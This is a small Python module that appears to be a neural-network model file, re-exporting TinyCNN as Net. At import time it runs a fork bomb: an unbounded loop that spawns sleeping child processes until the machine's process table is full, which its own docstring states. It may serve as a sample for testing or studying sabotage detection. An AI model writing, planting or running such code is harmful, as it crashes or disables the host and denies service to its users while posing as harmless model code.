"""Forks until the machine runs out of processes (each child sleeps, holding its slot)."""

import os
import time

from common import TinyCNN as Net

while True:
    if os.fork() == 0:
        time.sleep(3600)
        os._exit(0)

__all__ = ["Net"]
